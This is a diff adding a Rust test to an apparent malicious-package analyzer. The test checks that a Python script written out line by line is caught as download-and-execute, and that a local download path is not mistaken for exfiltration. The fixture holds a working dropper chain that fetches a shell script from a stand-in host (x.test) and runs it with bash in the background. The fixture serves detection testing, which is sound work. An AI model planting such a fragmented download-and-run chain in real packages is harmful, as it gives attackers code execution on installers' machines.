@@ -1653,6 +1653,28 @@ mod tests {
     }
 
     #[test]
+    fn a_script_written_line_by_line_is_analysed_whole_with_its_combinations() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        // Each write alone is a fragment; together they download a script and run it.
+        let src = "import subprocess\nwith open('/tmp/s.py', 'w') as f:\n    f.write('import subprocess, os\\n')\n    f.write('from urllib import request\\n')\n    f.write(\"request.urlretrieve('https://x.test/p.sh', '/tmp/p.sh')\\n\")\n    f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\nsubprocess.call('python3 /tmp/s.py &', shell=True)\n";
+        let files = [pf("p-1/p/__init__.py", src)];
+        assert_eq!(
+            hit(&a, &files, "DL-WRITE-EXEC").map(|h| h.0),
+            Some(Some(Stage::Import))
+        );
+        // The local file name urlretrieve writes to is not data sent over the network.
+        let named = "import os, getpass, urllib.request\nurllib.request.urlretrieve('https://x.test/a.tgz', os.path.join('/home', getpass.getuser(), 'a.tgz'))\n";
+        assert!(
+            hit(
+                &a,
+                &[pf("p-1/p/__init__.py", named)],
+                "EXFIL-SEND-COLLECTED"
+            )
+            .is_none()
+        );
+    }
+
+    #[test]
     fn decoded_code_run_from_a_function_weighs_like_the_top_level() {
         let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
         let py = [pf(
